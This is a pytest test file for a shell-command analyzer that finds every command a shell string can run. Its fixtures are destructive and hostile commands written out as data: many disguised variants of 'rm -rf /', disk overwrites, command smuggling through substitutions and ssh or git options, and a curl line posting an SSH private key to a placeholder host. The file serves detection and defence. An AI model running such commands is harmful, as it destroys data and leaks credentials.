"""Tests for policyd.core.shell: every command a shell string can run, however spelled."""

from __future__ import annotations

import shlex
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policyd.core.shell import (
    MAX_COMMANDS,
    MAX_DEPTH,
    MAX_INPUT_CHARS,
    Redirect,
    ShellAnalysis,
    SimpleCommand,
    analyze,
    split_argv_command,
)

# --------------------------------------------------------------------------- helpers


def names(a: ShellAnalysis) -> list[str]:
    return [c.name for c in a.commands]


def find(a: ShellAnalysis, name: str) -> SimpleCommand:
    for c in a.commands:
        if c.name == name:
            return c
    raise AssertionError(f"no command {name!r} in {names(a)}")


def no_internal_error(a: ShellAnalysis) -> bool:
    return not any(e.startswith("internal error") for e in a.errors)


RF = {"r", "R", "recursive", "f", "force"}


# --------------------------------------------------------------------------- structure

STRUCTURE = [
    ("ls", ["ls"]),
    ("a | b | c", ["a", "b", "c"]),
    ("a |& b", ["a", "b"]),
    ("a && b || c; d & e", ["a", "b", "c", "d", "e"]),
    ("(a; b)", ["a", "b"]),
    ("{ a; b; }", ["a", "b"]),
    ("echo $(a) `b`", ["echo", "a", "b"]),
    ("echo $(a $(b))", ["echo", "a", "b"]),
    ("diff <(a) >(b)", ["diff", "a", "b"]),
    ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
    ("for i in $(a); do b; done", ["a", "b"]),
    ("for ((i=0; i<3; i++)); do b; done", ["b"]),
    ("while a; do b; done", ["a", "b"]),
    ("until a; do b; done", ["a", "b"]),
    ("case $x in y) a;; *) b;; esac", ["a", "b"]),
    ("f() { a; }; function g { b; }", ["a", "b"]),
    ("f() ( a )", ["a"]),
    ('echo "x $(a) y"', ["echo", "a"]),
    ("X=$(a)", ["a"]),
    ("X=$(a) b", ["b", "a"]),
    ("export X=$(a)", ["export", "a"]),
    ("echo > $(a)", ["echo", "a"]),
    ("echo ${X:-$(a)}", ["echo", "a"]),
    ("! a", ["a"]),
    ("time (a)", ["time", "a"]),
    ("[[ -f $(a) ]] && b", ["a", "b"]),
    ("a # b", ["a"]),
    ("a \\\n  b", ["a"]),
    ("a\nb\n", ["a", "b"]),
    ("echo `a \\`b\\``", ["echo", "a", "b"]),
    ("while read l; do echo; done < <(a)", ["read", "echo", "a"]),
    ("unset A", ["unset"]),
    ("local x=1", ["local"]),
]


@pytest.mark.parametrize(("text", "expected"), STRUCTURE)
def test_structure_lists_every_command(text: str, expected: list[str]) -> None:
    """Every simple command in lists, pipelines, compounds and substitutions is listed."""
    a = analyze(text)
    assert expected == names(a)
    assert a.parse_ok


def test_source_order_and_text() -> None:
    """Commands come in source order with their own source text."""
    a = analyze("git status && echo $(rm -rf x) ; ls -l")
    expected = ["git", "echo", "rm", "ls"]
    assert expected == names(a)
    expected2 = ["git status", "echo $(rm -rf x)", "rm -rf x", "ls -l"]
    assert expected2 == [c.text for c in a.commands]


def test_empty_and_blank() -> None:
    """Empty or whitespace-only text is fine and has no commands."""
    for text in ("", "   ", "\n\t\n"):
        a = analyze(text)
        expected = (True, (), ())
        assert expected == (a.parse_ok, a.commands, a.errors)


def test_bare_assignments_and_redirects_are_not_commands() -> None:
    """`A=1` and `>f` run no program."""
    a = analyze("A=1 B=2; >f; C=3 >g")
    expected = []
    assert expected == names(a)
    expected2 = (("A", "1"), ("B", "2"), ("C", "3"))
    assert expected2 == a.assignments
    expected3 = ("f", "g")
    assert expected3 == a.path_args


# --------------------------------------------------------------------------- heredocs / stdin

HEREDOCS = [
    ("bash <<EOF\nrm -rf /\nEOF", ["bash", "rm"], "bash <<"),
    ("sh <<'X'\nrm -rf /\nX", ["sh", "rm"], "sh <<"),
    ("cat <<EOF | bash\nrm -rf /\nEOF", ["cat", "bash", "rm"], "bash <<"),
    ("cat <<EOF | tee f | sudo sh\nrm -rf /\nEOF", ["cat", "tee", "sudo", "sh", "rm"], "sh <<"),
    ("sudo bash <<EOF\nrm -rf /\nEOF", ["sudo", "bash", "rm"], "bash <<"),
    ("bash -s -- x <<EOF\nrm -rf /\nEOF", ["bash", "rm"], "bash <<"),
    ("ssh host <<EOF\nrm -rf /\nEOF", ["ssh", "rm"], "ssh <<"),
    ("su <<EOF\nrm -rf /\nEOF", ["su", "rm"], "su <<"),
    ("{ bash; } <<EOF\nrm -rf /\nEOF", ["bash", "rm"], "bash <<"),
    ("if true; then\nbash <<EOF\nrm -rf /\nEOF\nfi", ["true", "bash", "rm"], "bash <<"),
    ("bash <<< 'rm -rf /'", ["bash", "rm"], "bash <<<"),
    ("echo 'rm -rf /' | sh", ["echo", "sh", "rm"], "| sh"),
    ("printf 'rm -rf /' | bash", ["printf", "bash", "rm"], "| bash"),
    ("eval \"$(cat <<'EOF'\nrm -rf /\nEOF\n)\"", None, None),
]


@pytest.mark.parametrize(("text", "expected", "label"), HEREDOCS)
def test_stdin_fed_to_a_shell_is_parsed(
    text: str, expected: list[str] | None, label: str | None
) -> None:
    """Heredocs, here-strings and echo pipes into a shell are parsed one level deeper."""
    a = analyze(text)
    rm = find(a, "rm")
    assert {"r", "f"} <= rm.flags
    assert rm.depth >= 1
    assert a.parse_ok
    if expected is not None:
        assert expected == names(a)
        assert (label, 1) == (rm.wrapper, rm.depth)


HEREDOC_DATA = [
    "cat <<EOF\nrm -rf /home/dev\nEOF",
    "cat > x.sh <<'EOF'\nrm -rf /\nEOF",
    "python3 <<EOF\nimport os\nEOF",
    "grep x <<< 'rm -rf /'",
    "bash script.sh <<EOF\nrm -rf /\nEOF",
]


@pytest.mark.parametrize("text", HEREDOC_DATA)
def test_heredoc_data_is_not_parsed(text: str) -> None:
    """A heredoc to a non-shell (or a shell running a script file) is data."""
    a = analyze(text)
    assert "rm" not in names(a)
    assert a.parse_ok


def test_heredoc_redirect_and_dynamic_body() -> None:
    """Heredocs are listed as redirects with an empty target; expansions make them dynamic."""
    assert (Redirect("<<", "", False),) == analyze("cat <<'E'\n$X\nE").redirects
    assert (Redirect("<<-", "", True),) == analyze("cat <<-E\n\t$X\n\tE").redirects


def test_unquoted_heredoc_substitution_runs() -> None:
    """`$(..)` in an unquoted heredoc body runs even when the body is data."""
    a = analyze("cat <<EOF\n$(rm -rf /)\nEOF")
    expected = ["cat", "rm"]
    assert expected == names(a)


@pytest.mark.parametrize("text", [
    "python3 - <<'id'\nprint(1)\nid \nimport os\nid\n",      # tree-sitter ends at 'id ', bash does not
    "python3 - <<'id'\nprint(1)\n\tid\nimport os\nid\n",     # a tab before the delimiter under <<
    "cat <<-E\nx\n  E\nrm -rf /\nE\n",                     # <<- strips tabs, not blanks
])
def test_heredoc_delimiter_bash_may_read_otherwise_is_unknown(text: str) -> None:
    """A body line that is the delimiter but for blanks: where the body ends is in doubt, so
    the whole command is not parsed (the analysis must see the body bash runs)."""
    assert not analyze(text).parse_ok


@pytest.mark.parametrize("text", ["python3 - <<'EOF'\nprint(1)\nEOF\n", "cat <<-E\n\tx\n\tE\n",
                                  "cat <<E\nx\nE"])
def test_heredoc_exact_delimiter_parses(text: str) -> None:
    """The exact delimiter (tabs before it under <<-) ends a body as bash does."""
    assert analyze(text).parse_ok


# --------------------------------------------------------------------------- wrappers

WRAPPERS = [
    ("sudo rm -rf /", "sudo"),
    ("sudo -u root -E -- rm -rf /", "sudo"),
    ("sudo -iu root rm -rf /", "sudo"),
    ("sudo -g wheel -H rm -rf /", "sudo"),
    ("sudo A=1 rm -rf /", "sudo"),
    ("doas -u root rm -rf /", "doas"),
    ("env rm -rf /", "env"),
    ("env -i -u HOME A=1 B=2 rm -rf /", "env"),
    ("env --chdir=/ -- rm -rf /", "env"),
    ("nice rm -rf /", "nice"),
    ("nice -n 10 rm -rf /", "nice"),
    ("nice -10 rm -rf /", "nice"),
    ("nohup rm -rf / &", "nohup"),
    ("timeout 10 rm -rf /", "timeout"),
    ("timeout -s KILL -k 5 10s rm -rf /", "timeout"),
    ("timeout --preserve-status 1m rm -rf /", "timeout"),
    ("time rm -rf /", "time"),
    ("time -p rm -rf /", "time"),
    ("stdbuf -o0 -eL rm -rf /", "stdbuf"),
    ("stdbuf -o 0 rm -rf /", "stdbuf"),
    ("command rm -rf /", "command"),
    ("command -p rm -rf /", "command"),
    ("builtin rm -rf /", "builtin"),
    ("exec rm -rf /", "exec"),
    ("exec -a name -c rm -rf /", "exec"),
    ("xargs rm -rf /", "xargs"),
    ("xargs -0 -n 1 -P 4 -I {} rm -rf /", "xargs"),
    ("xargs -d '\\n' -r rm -rf /", "xargs"),
    ("parallel -j 4 rm -rf / ::: a b", "parallel"),
    ("find . -exec rm -rf / \\;", "find -exec"),
    ("find . -name '*.log' -execdir rm -rf / {} +", "find -execdir"),
    ("find . -ok rm -rf / ';'", "find -ok"),
    ("find . -okdir rm -rf / \\;", "find -okdir"),
    ("watch -x rm -rf /", "watch"),
    ("unbuffer rm -rf /", "unbuffer"),
    ("ionice -c3 rm -rf /", "ionice"),
    ("setsid -f rm -rf /", "setsid"),
    ("flock /tmp/lock rm -rf /", "flock"),
    ("strace -f -o out rm -rf /", "strace"),
    ("chrt 10 rm -rf /", "chrt"),
    ("taskset 0x1 rm -rf /", "taskset"),
    ("busybox rm -rf /", "busybox"),
    ("runuser -u bob -- rm -rf /", "runuser"),
    ("uv run rm -rf /", "uv run"),
    ("poetry run rm -rf /", "poetry run"),
    ("npx rm -rf /", "npx"),
]


@pytest.mark.parametrize(("text", "wrapper"), WRAPPERS)
def test_wrappers_list_both_wrapper_and_inner(text: str, wrapper: str) -> None:
    """A wrapper and the command it runs are both listed; the inner one names its wrapper."""
    a = analyze(text)
    rm = find(a, "rm")
    assert (wrapper, 0, ("-rf", "/")) == (rm.wrapper, rm.depth, rm.args[:2])
    expected = RF
    assert expected <= rm.flags
    assert a.commands[0].name != "rm"
    assert a.parse_ok


def test_nested_wrappers() -> None:
    """Wrapper chains unwrap level by level."""
    a = analyze("sudo -u root env A=1 nice -n 5 timeout 10 rm -rf /")
    expected = ["sudo", "env", "nice", "timeout", "rm"]
    assert expected == names(a)
    expected2 = ["", "sudo", "env", "nice", "timeout"]
    assert expected2 == [c.wrapper for c in a.commands]
    expected3 = (("A", "1"),)
    assert expected3 == a.assignments


WRAPPER_NO_INNER = [
    "xargs",
    "xargs -0 -n 1",
    "env",
    "env -i",
    "sudo -l",
    "sudo -e /etc/hosts",
    "nohup",
    "timeout 10",
    "exec 3>f",
    "command",
    "find . -name x -delete",
]


@pytest.mark.parametrize("text", WRAPPER_NO_INNER)
def test_wrappers_without_a_command(text: str) -> None:
    """A wrapper given no command lists only itself."""
    a = analyze(text)
    expected = 1
    assert expected == len(a.commands)
    assert a.parse_ok


def test_wrapper_own_flags_stop_at_inner_command() -> None:
    """The wrapper's flags are its own, not the inner command's."""
    a = analyze("sudo -E rm -rf /")
    assert ({"E"}, ("rm", "-rf", "/")) == (set(a.commands[0].flags),
                                                           a.commands[0].positionals)
    assert ({"delete", "name", "exec"}, ("/home",)) == (
        set(find(analyze("find /home -name x -exec rm -f {} \\; -delete"), "find").flags),
        find(analyze("find /home -name x -exec rm -f {} \\;"), "find").positionals,
    )


def test_find_exec_keeps_placeholder() -> None:
    """`{}` stays an argument of the command run by find."""
    rm = find(analyze("find . -type f -exec rm -f {} +"), "rm")
    expected = (("-f", "{}"), "find -exec")
    assert expected == (rm.args, rm.wrapper)


# --------------------------------------------------------------------------- shell strings

SHELL_STRINGS = [
    ("bash -c 'rm -rf /'", "bash -c"),
    ("bash -lc 'rm -rf /'", "bash -c"),
    ("bash -xc 'rm -rf /'", "bash -c"),
    ("bash -e -c 'rm -rf /'", "bash -c"),
    ("bash -o pipefail -c 'rm -rf /'", "bash -c"),
    ("bash --norc -c 'rm -rf /' argv0 a", "bash -c"),
    ('sh -c "rm -rf /"', "sh -c"),
    ("/bin/zsh -c 'rm -rf /'", "zsh -c"),
    ("dash -c 'rm -rf /'", "dash -c"),
    ("ksh -c 'rm -rf /'", "ksh -c"),
    ("fish -c 'rm -rf /'", "fish -c"),
    ("bash -c rm\\ -rf\\ /", "bash -c"),
    ('eval "rm -rf /"', "eval"),
    ("eval rm -rf /", "eval"),
    ("eval 'rm -rf' /", "eval"),
    ("su -c 'rm -rf /'", "su -c"),
    ("su root -c 'rm -rf /'", "su -c"),
    ("su - root -c 'rm -rf /'", "su -c"),
    ("su --command='rm -rf /' root", "su -c"),
    ("ssh host 'rm -rf /'", "ssh"),
    ("ssh -p 22 -i key user@host rm -rf /", "ssh"),
    ("ssh -o StrictHostKeyChecking=no host -- 'rm -rf /'", "ssh"),
    ("ssh -o 'ProxyCommand=rm -rf /' host", "ssh -o"),
    ("watch 'rm -rf /'", "watch"),
    ("watch -n 5 rm -rf /", "watch"),
    ("xargs sh -c 'rm -rf /'", "sh -c"),
    ("parallel 'rm -rf /' ::: a", "parallel"),
    ("parallel ::: 'rm -rf /' ls", "parallel"),
    ("env -S 'rm -rf /'", "env -S"),
    ("flock /tmp/l -c 'rm -rf /'", "flock -c"),
    ("script -q -c 'rm -rf /' /dev/null", "script -c"),
    ("trap 'rm -rf /' EXIT", "trap"),
    ("git -c core.pager='rm -rf /' log", "git -c"),
    ("git -c alias.x='!rm -rf /' x", "git -c"),
    ("git rebase -x 'rm -rf /' main", "git rebase --exec"),
    ("npx -c 'rm -rf /'", "npx -c"),
]


@pytest.mark.parametrize(("text", "label"), SHELL_STRINGS)
def test_shell_strings_are_parsed_one_level_deeper(text: str, label: str) -> None:
    """Strings a program runs as shell code are parsed at depth + 1."""
    a = analyze(text)
    rm = find(a, "rm")
    assert (label, 1) == (rm.wrapper, rm.depth)
    expected = RF
    assert expected <= rm.flags
    assert a.parse_ok


def test_interpreter_one_liners_are_not_shell() -> None:
    """`python -c` code stays an argument of python (policies judge it)."""
    a = analyze("python3 -c \"import os; os.system('rm -rf /')\"")
    expected = ["python3"]
    assert expected == names(a)
    expected2 = ("-c", "import os; os.system('rm -rf /')")
    assert expected2 == a.commands[0].args


def test_nested_shell_strings_and_dynamic_string() -> None:
    """Nesting increases depth; a dynamic string is still parsed from its source text."""
    a = analyze("""bash -c "sh -c 'rm -rf /'" """)
    expected = [("bash", 0), ("sh", 1), ("rm", 2)]
    assert expected == [(c.name, c.depth) for c in a.commands]
    b = analyze('bash -c "rm -rf $DIR"')
    rm = find(b, "rm")
    expected2 = (("-rf", "$DIR"), True, 1)
    assert expected2 == (rm.args, rm.dynamic, rm.depth)


def nest_bash_c(inner: str, levels: int) -> str:
    for _ in range(levels):
        escaped = (
            inner.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$").replace("`", "\\`")
        )
        inner = f'bash -c "{escaped}"'
    return inner


def test_depth_limit() -> None:
    """Nesting past max_depth sets parse_ok False with a reason naming the limit."""
    deep = analyze(nest_bash_c("rm -rf /", 10))
    assert (False, f"nesting deeper than MAX_DEPTH={MAX_DEPTH} at 'bash -c'") == (
        deep.parse_ok,
        deep.errors[0],
    )
    assert "rm" not in names(deep)
    at_limit = analyze(nest_bash_c("rm -rf /", MAX_DEPTH))
    expected = (True, MAX_DEPTH)
    assert expected == (at_limit.parse_ok, find(at_limit, "rm").depth)
    assert not analyze(nest_bash_c("rm -rf /", 2), max_depth=1).parse_ok
    assert analyze(nest_bash_c("rm -rf /", 2), max_depth=2).parse_ok
    assert not analyze("eval " * 10 + "rm -rf /").parse_ok


# --------------------------------------------------------------------------- names and quoting

NAMES = [
    ("rm x", "rm", "rm"),
    ("/usr/bin/rm x", "rm", "/usr/bin/rm"),
    ("./rm x", "rm", "./rm"),
    ("\\rm x", "rm", "rm"),
    ("'rm' x", "rm", "rm"),
    ('"rm" x', "rm", "rm"),
    ('r"m" x', "rm", "rm"),
    ("r'm' x", "rm", "rm"),
    ("\\r\\m x", "rm", "rm"),
    ("$'rm' x", "rm", "rm"),
    ("$'\\x72m' x", "rm", "rm"),
    ('"/usr/bin/rm" x', "rm", "/usr/bin/rm"),
    ("GIT status", "GIT", "GIT"),
    ("mkfs.ext4 /dev/sda1", "mkfs.ext4", "mkfs.ext4"),
]


@pytest.mark.parametrize(("text", "name", "argv0"), NAMES)
def test_name_normalisation(text: str, name: str, argv0: str) -> None:
    """Names lose quotes, backslashes and directories; case is kept; argv0 is as written."""
    c = analyze(text).commands[0]
    assert (name, argv0, False) == (c.name, c.argv[0], c.dynamic)


ARGS = [
    ("echo 'a b' \"c d\" e\\ f", ("a b", "c d", "e f")),
    ('echo "a\\"b" "x\\\\y" "\\$z" "p\\q"', ('a"b', "x\\y", "$z", "p\\q")),
    ("echo $'a\\tb\\n' $'\\'q\\'' $'\\x41\\101\\u00e9'", ("a\tb\n", "'q'", "AAé")),
    ("echo a\"b\"'c'$'d'", ("abcd",)),
    ("echo ~/x ~ ~user", ("~/x", "~", "~user")),
    ("echo \"$HOME/x\" ${A}b $(date) `id`", ("$HOME/x", "${A}b", "$(date)", "`id`")),
    ("echo '' \"\"", ("", "")),
    ("echo \\*", ("*",)),
    ('echo $"hi"', ("hi",)),
]


@pytest.mark.parametrize(("text", "args"), ARGS)
def test_argument_unquoting(text: str, args: tuple[str, ...]) -> None:
    """Arguments are the literal words; expansions keep their source text."""
    c = analyze(text).commands[0]
    assert args == c.args
    assert ("echo", *args) == c.argv


DYNAMIC = [
    ("rm x", False),
    ("rm ~/x", False),
    ("rm '*'", False),
    ("rm \\*", False),
    ("rm '$HOME'", False),
    ("find . -exec rm {} \\;", False),
    ("git stash drop stash@{0}", False),
    ("rm $X", True),
    ("rm ${X}", True),
    ('rm "$X"', True),
    ("rm $(x)", True),
    ("rm `x`", True),
    ("rm $((1+2))", True),
    ("rm *", True),
    ("rm a?", True),
    ("rm [ab]", True),
    ("rm {a,b}", True),
    ("rm {1..3}", True),
    ("$CMD x", True),
    ("$(which rm) x", True),
]


@pytest.mark.parametrize(("text", "dynamic"), DYNAMIC)
def test_dynamic_words(text: str, dynamic: bool) -> None:
    """Expansions, globs and brace expansion are dynamic; quoted text and `~` are not."""
    a = analyze(text)
    assert (dynamic, dynamic) == (a.commands[0].dynamic, a.dynamic)


def test_dynamic_elsewhere() -> None:
    """Assignments, redirect targets and loop lists with expansions make the analysis dynamic."""
    assert analyze("X=$(id)").dynamic
    assert analyze("echo > $F").dynamic
    assert analyze("for f in *; do :; done").dynamic
    assert not analyze("X=1; echo > f").dynamic


def test_dynamic_command_name_is_kept_whole() -> None:
    """A command-substitution name is not basename-split."""
    a = analyze("$(echo /bin/rm) -rf /")
    expected = ("$(echo /bin/rm)", True)
    assert expected == (a.commands[0].name, a.commands[0].dynamic)
    expected2 = ("rm", True)
    assert expected2 == (analyze("$BIN/rm x").commands[0].name, analyze("$BIN/rm x").dynamic)


# --------------------------------------------------------------------------- flags

FLAGS = [
    ("rm -rf /", RF),
    ("rm -fr /", RF),
    ("rm -r -f /", RF),
    ("rm -Rf /", RF),
    ("rm --recursive --force /", RF),
    ("rm -r --force /", RF),
    ("rm --rec --forc /", RF),
    ("rm / -rf", RF),
    ("rm -- -rf", set()),
    ("rm -i x", {"i"}),
    ("cp -R a b", {"R", "r", "recursive"}),
    ("cp -a a b", {"a", "archive"}),
    ("mv -f a b", {"f", "force"}),
    ("chmod -R 777 .", {"R", "recursive"}),
    ("chmod -x f", set()),
    ("chown -R u:g .", {"R", "recursive"}),
    ("git push -f origin main", {"f", "force"}),
    ("git push --force origin main", {"f", "force"}),
    ("git push --force-with-lease=main origin", {"force-with-lease"}),
    ("git branch -D x", {"D"}),
    ("git branch -d x", {"d", "delete"}),
    ("git clean -fdx", {"f", "force", "d", "x"}),
    ("git reset --hard HEAD", {"hard"}),
    ("git commit -m '-rf'", {"m", "message"}),
    ("git --no-pager log -p", {"no-pager", "P", "p", "patch", "u"}),
    ("tar -xzf a.tgz -C /", {"x", "extract", "get", "z", "gzip", "gunzip", "ungzip", "f", "file",
                             "C", "directory"}),
    ("sed -i.bak s/a/b/ f", {"i", "in-place"}),
    ("grep -rn x .", {"r", "recursive", "n", "line-number"}),
    ("head -n 5 f", {"n", "lines"}),
    ("terraform destroy -auto-approve", {"auto-approve"}),
    ("kubectl delete ns prod --force --grace-period=0", {"force", "grace-period"}),
    ("curl -fsSL http://x", {"f", "fail", "s", "silent", "S", "show-error", "L", "location"}),
    ("ls -la", {"l", "a", "all"}),
    ("foo --bar=baz -q", {"bar", "q"}),
]


@pytest.mark.parametrize(("text", "flags"), FLAGS)
def test_flags(text: str, flags: set[str]) -> None:
    """Short flags split, long ones bare, with per-program aliases; `--` ends flags."""
    assert flags == set(analyze(text).commands[0].flags)


# --------------------------------------------------------------------------- subcommands

SUBCOMMANDS = [
    ("git push", "push", ("push",)),
    ("git -C dir push origin", "push", ("push", "origin")),
    ("git --no-pager push", "push", ("push",)),
    ("git -c a=b push", "push", ("push",)),
    ("git --git-dir=.git --work-tree . push", "push", ("push",)),
    ("git -p status", "status", ("status",)),
    ("git commit -m msg file.txt", "commit", ("commit", "file.txt")),
    ("git", "", ()),
    ("npm --prefix p run build", "run", ("run", "build")),
    ("npm test", "test", ("test",)),
    ("pnpm -C dir install", "install", ("install",)),
    ("yarn --cwd d add x", "add", ("add", "x")),
    ("cargo +nightly build --release", "build", ("build",)),
    ("docker --host h run --rm -v /:/h img rm -rf /h", "run", ("run", "img", "rm", "-rf", "/h")),
    ("docker compose up -d", "compose", ("compose", "up")),
    ("kubectl -n prod delete ns x", "delete", ("delete", "ns", "x")),
    ("kubectl delete -f x.yaml", "delete", ("delete",)),
    ("go test -run X ./...", "test", ("test", "./...")),
    ("pip install -r req.txt x", "install", ("install", "x")),
    ("apt-get -y install x", "install", ("install", "x")),
    ("systemctl --user restart x", "restart", ("restart", "x")),
    ("terraform -chdir=infra destroy", "destroy", ("destroy",)),
    ("aws --region eu s3 rm s3://b --recursive", "s3 rm", ("s3", "rm", "s3://b")),
    ("aws s3", "s3", ("s3",)),
    ("gcloud --project p compute instances delete x", "compute",
     ("compute", "instances", "delete", "x")),
    ("brew install x", "install", ("install", "x")),
    ("helm -n ns uninstall x", "uninstall", ("uninstall", "x")),
    ("make -C dir -j 4 VAR=1 test", "test", ("4", "VAR=1", "test")),  # -j's value only attached
    ("make -j test", "test", ("test",)),
    ("GIT reset --hard", "reset", ("reset",)),
    ("ls -l x", "", ("x",)),
]


@pytest.mark.parametrize(("text", "sub", "positionals"), SUBCOMMANDS)
def test_subcommands_and_positionals(text: str, sub: str, positionals: tuple[str, ...]) -> None:
    """The subcommand is the first positional after global options and their values."""
    c = analyze(text).commands[0]
    assert (sub, positionals) == (c.subcommand, c.positionals)


# --------------------------------------------------------------------------- redirects

REDIRECTS = [
    ("echo x > f", [(">", "f", False)]),
    ("echo x >> f", [(">>", "f", False)]),
    ("cat < f", [("<", "f", False)]),
    ("cmd &> f", [("&>", "f", False)]),
    ("cmd &>> f", [("&>>", "f", False)]),
    ("cmd >| f", [(">|", "f", False)]),
    ("cmd 2> f", [("2>", "f", False)]),
    ("cmd 2>&1", [("2>&", "1", False)]),
    ("cmd > '~/a b'", [(">", "~/a b", False)]),
    ("cmd > $F", [(">", "$F", True)]),
    ("cmd > f <<< x", [(">", "f", False), ("<<<", "x", False)]),
    ("cmd <<< \"$x\"", [("<<<", "$x", True)]),
]


@pytest.mark.parametrize(("text", "redirects"), REDIRECTS)
def test_redirects(text: str, redirects: list[tuple[str, str, bool]]) -> None:
    """Redirections keep their operator (with fd) and unquoted target."""
    a = analyze(text)
    assert [Redirect(*r) for r in redirects] == list(a.redirects)
    assert a.parse_ok


# --------------------------------------------------------------------------- assignments

ASSIGNMENTS = [
    ("A=b cmd", (("A", "b"),)),
    ("A=b", (("A", "b"),)),
    ("A='x y' B=$(c) d", (("A", "x y"), ("B", "$(c)"))),
    ("export A=b C", (("A", "b"),)),
    ("declare -x A=1", (("A", "1"),)),
    ("env A=b B= cmd", (("A", "b"), ("B", ""))),
    ("X=`touch /tmp/m` npm --version", (("X", "`touch /tmp/m`"),)),
]


@pytest.mark.parametrize(("text", "assignments"), ASSIGNMENTS)
def test_assignments(text: str, assignments: tuple[tuple[str, str], ...]) -> None:
    """Assignments from prefixes, declarations, bare statements and env are listed."""
    assert assignments == analyze(text).assignments


def test_assignment_substitution_runs() -> None:
    """A substitution in an assignment value is a command."""
    a = analyze("X=`touch /tmp/m` npm --version")
    expected = ["npm", "touch"]
    assert expected == names(a)


# --------------------------------------------------------------------------- path args

PATHS = [
    ("rm -rf ~ ~/.ssh ../x '$HOME/y' *", ("~", "~/.ssh", "../x", "$HOME/y", "*")),
    ("rmdir -p a/b", ("a/b",)),
    ("mv a b", ("a", "b")),
    ("cp -t /dst a", ("/dst", "a")),
    ("ln -s /etc/passwd p", ("/etc/passwd", "p")),
    ("echo x | tee -a log", ("log",)),
    ("touch f; mkdir -m 700 d", ("f", "d")),
    ("chmod 600 ~/.ssh/id_rsa", ("~/.ssh/id_rsa",)),
    ("chown -R u:g /srv", ("/srv",)),
    ("chgrp g f", ("f",)),
    ("truncate -s 0 f", ("f",)),
    ("shred -u -n 3 f", ("f",)),
    ("dd if=/dev/zero of=/dev/sda bs=1M", ("/dev/zero", "/dev/sda")),
    ("sed -i 's/a/b/' x.py y.py", ("x.py", "y.py")),
    ("sed -n 1p .env", (".env",)),
    ("sed -e s/a/b/ f", ("f",)),
    ("install -m 755 a /usr/bin/a", ("a", "/usr/bin/a")),
    ("rsync -av src/ host:/dst", ("src/", "host:/dst")),
    ("tar -czf out.tgz ~/.ssh", ("out.tgz", "~/.ssh")),
    ("tar -xf a.tar -C /", ("a.tar", "/")),
    ("tar xzf a.tgz", ("a.tgz",)),
    ("unlink f", ("f",)),
    ("cat a b; head -n 3 c; tail -f d; less e", ("a", "b", "c", "d", "e")),
    ("grep -r API_KEY .env src", (".env", "src")),
    ("grep -e x -f pats f", ("pats", "f")),
    ("rg -n 'fn main' src", ("src",)),
    ("source ~/.bashrc; . ./env.sh", ("~/.bashrc", "./env.sh")),
    ("echo x > ~/.bashrc 2>&1 >> /tmp/l", ("~/.bashrc", "/tmp/l")),
    ("cat - < in", ("in",)),
    ("find /home -name x -delete", ("/home",)),
    ("curl -d @~/.ssh/id_rsa -F f=@secret -T up -o out http://x", ("~/.ssh/id_rsa", "secret",
                                                                   "up", "out")),
    ("git diff --no-index -- /home/dev/.ssh/id_rsa /dev/null", ("/home/dev/.ssh/id_rsa",
                                                                "/dev/null")),
    ("git -C /opt/repo status", ("/opt/repo",)),
    ("git checkout -- .", (".",)),
    ("sudo rm -rf /etc", ("/etc",)),
    ("bash -c 'rm /x'", ("/x",)),
    ("ls /etc; echo /etc/passwd; git status", ("/etc",)),  # ls reads its operand
]


@pytest.mark.parametrize(("text", "paths"), PATHS)
def test_path_args(text: str, paths: tuple[str, ...]) -> None:
    """Operands of file commands and redirect targets are collected raw and unresolved."""
    assert paths == analyze(text).path_args


# --------------------------------------------------------------------------- malformed input

MALFORMED = [
    'echo "unterminated',
    "(( ",
    "if then fi",
    "echo $(",
    "a && ",
    "for",
    "case x in",
    "`",
    "bash <<EOF\nrm -rf /",
    "'",
]


@pytest.mark.parametrize("text", MALFORMED)
def test_malformed_input_is_reported_not_raised(text: str) -> None:
    """Syntax errors give parse_ok False with a reason, never an exception."""
    a = analyze(text)
    expected = (False, True)
    assert expected == (a.parse_ok, bool(a.errors))
    assert no_internal_error(a)


ODD = [
    "rm\x00 -rf /",
    "\x00\x01\x02\xff",
    "echo \ud800 $(rm -rf /)",
    "echo é ü 漢字 $(rm -rf /)",
    "\\",
    "}}}}",
    "$'\\U0011ffff\\777\\c'",
    "echo " + "a" * 200_000,
    "$(" * 3000 + "rm" + ")" * 3000,
    "(" * 3000 + "rm" + ")" * 3000,
    "{ " * 2000 + "rm; " + "}; " * 2000,
    "sudo " * 5000 + "rm -rf /",
    "echo " + "$(echo " * 1500 + "x" + ")" * 1500 + " " + "y" * 100_000,
]


@pytest.mark.parametrize("text", ODD, ids=lambda t: repr(t[:20]))
def test_odd_input_never_raises(text: str) -> None:
    """Odd bytes, encodings and pathological nesting are handled without exceptions."""
    a = analyze(text)
    assert isinstance(a, ShellAnalysis)
    assert no_internal_error(a)


def test_nul_bytes_are_dropped() -> None:
    """NUL bytes (dropped by bash) do not hide a command name."""
    rm = find(analyze("r\x00m -rf /"), "rm")
    expected = RF
    assert expected <= rm.flags


def test_limits() -> None:
    """Too many commands or too long input give parse_ok False and a named reason."""
    many = analyze(" && ".join(["true"] * (MAX_COMMANDS + 10)))
    expected = (False, MAX_COMMANDS)
    assert expected == (many.parse_ok, len(many.commands))
    assert f"more than MAX_COMMANDS={MAX_COMMANDS} commands" in many.errors
    long = analyze("x" * (MAX_INPUT_CHARS + 1))
    expected2 = (False, ())
    assert expected2 == (long.parse_ok, long.commands)
    chain = analyze("sudo " * 100 + "rm -rf /")
    assert not chain.parse_ok
    ok = analyze(" && ".join(["true"] * (MAX_COMMANDS - 10)) + " && rm -rf /")
    expected3 = (True, "rm")
    assert expected3 == (ok.parse_ok, ok.commands[-1].name)


def test_known_parser_quirk_is_tolerated() -> None:
    """`cmd >f <<<x` (tree-sitter reports an error) is valid bash and parses ok."""
    a = analyze("bash 2>&1 <<< 'rm -rf /'")
    expected = (True, ["bash", "rm"])
    assert expected == (a.parse_ok, names(a))


# --------------------------------------------------------------------------- split_argv_command

SPLIT = [
    (["bash", "-lc", "npm test"], "npm test"),
    (["sh", "-c", "ls -la | wc -l"], "ls -la | wc -l"),
    (["/bin/zsh", "-c", "echo hi"], "echo hi"),
    (["bash", "-e", "-c", "make", "argv0"], "make"),
    (["bash", "-c"], "bash -c"),
    # a shell's own options are not dropped, and only the system's shell is unwrapped
    (["bash", "--rcfile", "/tmp/rc.sh", "-ic", "ls"], "bash --rcfile /tmp/rc.sh -ic ls"),
